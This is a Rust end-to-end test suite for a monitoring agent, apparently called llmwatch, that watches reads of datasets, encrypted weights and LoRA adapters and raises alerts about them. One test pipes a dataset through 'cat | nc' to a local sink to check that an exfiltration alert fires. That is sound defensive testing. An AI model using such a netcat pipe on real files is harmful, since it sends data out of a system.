//! Files protected beyond the weights found by format: the `assets` configuration (datasets,
//! encrypted weights... by glob) and PEFT adapters by default. Each is watched by identity like
//! a weight file, whatever its content, and its class is on every event and alert about it.
//! Real processes and the real agent (root).
use std::{
    path::{Path, PathBuf},
    process::{Command, Stdio},
};

use llmwatch_e2e::{Agent, TempDir, Value, bytes_until_exit, inode, is, secs, tcp_sink, write_safetensors};

fn me() -> u32 {
    std::process::id()
}

/// A scenario's directories: models (the agent's `--model-dir`), data (where the globs point,
/// outside every model directory) and the configuration's.
struct Dirs {
    models: TempDir,
    data: TempDir,
    conf: TempDir,
}

impl Dirs {
    fn new(tag: &str) -> Dirs {
        Dirs {
            models: TempDir::new(&format!("{tag}-models")),
            data: TempDir::new(&format!("{tag}-data")),
            conf: TempDir::new(&format!("{tag}-conf")),
        }
    }

    /// The agent watching the models directory, configured with `assets` (a YAML list in
    /// which `{data}` and `{models}` stand for the directories).
    fn agent(&self, assets: &str) -> Agent {
        let assets = assets
            .replace("{data}", self.data.path().to_str().unwrap())
            .replace("{models}", self.models.path().to_str().unwrap());
        let config = self.conf.path().join("llmwatch.yaml");
        std::fs::write(&config, format!("assets: {assets}\n")).unwrap();
        Agent::watching(&[self.models.path()], &["--config", config.to_str().unwrap()])
    }
}

/// A fine-tuning data set of exactly `size` bytes: JSON lines, text with no weight format.
fn write_dataset(path: &Path, size: usize) -> u64 {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    let mut text = String::with_capacity(size + 100);
    let mut i = 0;
    while text.len() < size {
        text.push_str(&format!(
            "{{\"prompt\": \"question {i}\", \"completion\": \"answer {i}\"}}\n"
        ));
        i += 1;
    }
    text.truncate(size);
    std::fs::write(path, text).unwrap();
    inode(path)
}

/// `size` bytes that no weight format starts with, as an encrypted model would look.
fn write_ciphertext(path: &Path, size: usize) -> u64 {
    let bytes: Vec<u8> = (0..size).map(|i| (i * 7919 % 251) as u8 ^ 0x5a).collect();
    std::fs::write(path, bytes).unwrap();
    inode(path)
}

/// Runs `program args` with its output thrown away; its pid once it exited successfully.
fn run(program: &str, args: &[&Path]) -> u32 {
    let child = Command::new(program)
        .args(args)
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let pid = child.id();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{program}: {:?}", out.status);
    pid
}

/// The close report of this process's read of `ino`, once it arrives.
fn read_closed(agent: &mut Agent, ino: u64, what: &str) -> Value {
    agent
        .wait_for(secs(10), |v| {
            is(v, "file_read", me()) && v["file"]["ino"] == ino && v["reason"] == "close"
        })
        .unwrap_or_else(|| panic!("read of {what} not reported"))
}

/// The path a `watch_update` lists under `key` (`added`, `removed`).
fn updated(key: &'static str, path: &Path) -> impl Fn(&Value) -> bool {
    let path = path.to_str().unwrap().to_string();
    move |v| v["kind"] == "watch_update" && v[key].as_array().is_some_and(|a| a.iter().any(|p| *p == *path))
}

#[test]
fn a_dataset_and_encrypted_weights_named_by_glob_are_watched_and_read_with_their_class() {
    let dirs = Dirs::new("assets");
    let dataset = dirs.data.path().join("finetune/run1/train.jsonl");
    let dataset_size = 300_000 + 17;
    let dataset_ino = write_dataset(&dataset, dataset_size);
    let sealed = dirs.models.path().join("model.safetensors.enc");
    let sealed_size = 200_000 + 3;
    let sealed_ino = write_ciphertext(&sealed, sealed_size);
    // Beside the data set, named by no glob and no weight: never watched.
    let notes = dirs.data.path().join("finetune/run1/notes.txt");
    std::fs::write(&notes, "what this run was for: ".repeat(1000)).unwrap();
    let notes_ino = inode(&notes);
    let mut agent = dirs.agent(
        "[{glob: \"{data}/finetune/**/*.jsonl\", class: dataset}, \
         {glob: \"{models}/**/*.enc\", class: encrypted_weights}]",
    );
    assert_eq!(agent.ready["watched_files"], 2, "{}", agent.ready);
    assert_eq!(
        agent.ready["scan"]["classes"],
        serde_json::json!({"dataset": 1, "encrypted_weights": 1}),
        "{}",
        agent.ready
    );
    // The data set's directory is scanned (and watched for new files) besides the model one.
    let finetune = dirs.data.path().join("finetune");
    assert!(
        agent.ready["roots"]
            .as_array()
            .unwrap()
            .iter()
            .any(|r| *r == *finetune.to_str().unwrap()),
        "{}",
        agent.ready
    );

    // One cat reads the unwatched file first, then the two watched ones: its exit comes after
    // its reads of them are reported, so by then anything about the first would have arrived.
    let cat = run("cat", &[&notes, &dataset, &sealed]);
    let (bytes, reads) = bytes_until_exit(&mut agent, cat, |v| {
        is(v, "file_read", cat) && v["file"]["ino"] == dataset_ino
    });
    assert_eq!(bytes, dataset_size as u64, "{reads:#?}");
    let weight = &reads[0]["weight"];
    assert_eq!(weight["class"], "dataset", "{weight}");
    assert_eq!(weight["format"], "unknown", "{weight}");
    assert_eq!(weight["path"], dataset.to_str().unwrap());
    assert_eq!(reads[0]["process"]["comm"], "cat");
    let sealed_reads: Vec<&Value> = agent
        .seen
        .iter()
        .filter(|v| is(v, "file_read", cat) && v["file"]["ino"] == sealed_ino)
        .collect();
    let sealed_bytes: u64 = sealed_reads.iter().map(|v| v["bytes"].as_u64().unwrap()).sum();
    assert_eq!(sealed_bytes, sealed_size as u64, "{sealed_reads:#?}");
    assert_eq!(sealed_reads[0]["weight"]["class"], "encrypted_weights");
    let leaked: Vec<&Value> = agent
        .seen
        .iter()
        .filter(|v| v["file"]["ino"] == notes_ino || v["weight"]["path"] == notes.to_str().unwrap())
        .collect();
    assert!(
        leaked.is_empty(),
        "a file no glob names was reported: {leaked:#?}"
    );
    // The alert about cat names the data set with its class.
    let alert = agent
        .wait_for(secs(10), |v| {
            v["rule"] == "weight.unexpected_reader" && v["files"][0]["ino"] == dataset_ino
        })
        .expect("no weight.unexpected_reader about the data set");
    assert_eq!(alert["files"][0]["class"], "dataset", "{alert}");
}

#[test]
fn new_dataset_files_are_watched_without_restart_and_dropped_when_renamed_out_of_the_glob() {
    let dirs = Dirs::new("assets-new");
    // The glob's directory does not exist yet: it is watched for when it appears.
    let mut agent = dirs.agent("[{glob: \"{data}/sets/**/*.jsonl\", class: dataset}]");
    assert_eq!(agent.ready["watched_files"], 0, "{}", agent.ready);
    let fresh = dirs.data.path().join("sets/v2/eval.jsonl");
    let ino = write_dataset(&fresh, 50_000);
    let upd = agent
        .wait_for(secs(15), updated("added", &fresh))
        .expect("new data set not picked up");
    assert_eq!(upd["watched_files"], 1);
    let read = std::fs::read(&fresh).unwrap();
    let ev = read_closed(&mut agent, ino, "the new data set");
    assert_eq!(ev["total"], read.len() as u64);
    assert_eq!(ev["weight"]["class"], "dataset");
    // Renamed to a name no glob matches: the same inode is no longer watched.
    let away: PathBuf = fresh.with_extension("bak");
    std::fs::rename(&fresh, &away).unwrap();
    agent
        .wait_for(secs(15), updated("removed", &fresh))
        .expect("a data set renamed out of the glob is still watched");
}

#[test]
fn cat_of_a_dataset_into_nc_is_exfiltration_of_a_dataset() {
    let dirs = Dirs::new("assets-exfil");
    let dataset = dirs.data.path().join("finetune/train.jsonl");
    let size = 2 * 1024 * 1024 + 333;
    write_dataset(&dataset, size);
    let mut agent = dirs.agent("[{glob: \"{data}/finetune/*.jsonl\", class: dataset}]");
    assert_eq!(agent.ready["watched_files"], 1, "{}", agent.ready);
    let (port, sink) = tcp_sink();
    let script = format!("cat {} | nc -N 127.0.0.1 {port}", dataset.display());
    let status = Command::new("bash").arg("-c").arg(&script).status().unwrap();
    assert!(status.success(), "{script}");
    assert_eq!(sink.join().unwrap(), size as u64);
    let a = agent
        .wait_for(secs(10), |v| {
            v["rule"] == "weight.exfiltration" && v["network"][0]["port"] == port
        })
        .expect("no weight.exfiltration for the data set");
    assert_eq!(a["severity"], "critical");
    let file = &a["files"][0];
    assert_eq!(file["path"], dataset.to_str().unwrap());
    assert_eq!(file["class"], "dataset", "{a}");
    assert_eq!(file["size"], size as u64);
}

#[test]
fn a_peft_adapter_is_class_adapter_without_any_configuration() {
    let models = TempDir::new("assets-adapter");
    let base = models.path().join("base/model.safetensors");
    let adapter = models
        .path()
        .join("lora/checkpoint-500/adapter_model.safetensors");
    std::fs::create_dir_all(base.parent().unwrap()).unwrap();
    std::fs::create_dir_all(adapter.parent().unwrap()).unwrap();
    let base_ino = write_safetensors(&base, 120_000);
    let adapter_ino = write_safetensors(&adapter, 80_000);
    let mut agent = Agent::watching(&[models.path()], &[]);
    assert_eq!(
        agent.ready["scan"]["classes"],
        serde_json::json!({"weights": 1, "adapter": 1}),
        "{}",
        agent.ready
    );
    for (path, ino, class) in [(&adapter, adapter_ino, "adapter"), (&base, base_ino, "weights")] {
        std::fs::read(path).unwrap();
        let ev = read_closed(&mut agent, ino, class);
        assert_eq!(ev["weight"]["class"], class, "{ev}");
        assert_eq!(ev["weight"]["format"], "safetensors");
    }
    let alert = agent
        .wait_for(secs(10), |v| {
            v["rule"] == "weight.unexpected_reader" && v["files"][0]["ino"] == adapter_ino
        })
        .expect("no weight.unexpected_reader about the adapter");
    assert_eq!(alert["files"][0]["class"], "adapter", "{alert}");
}
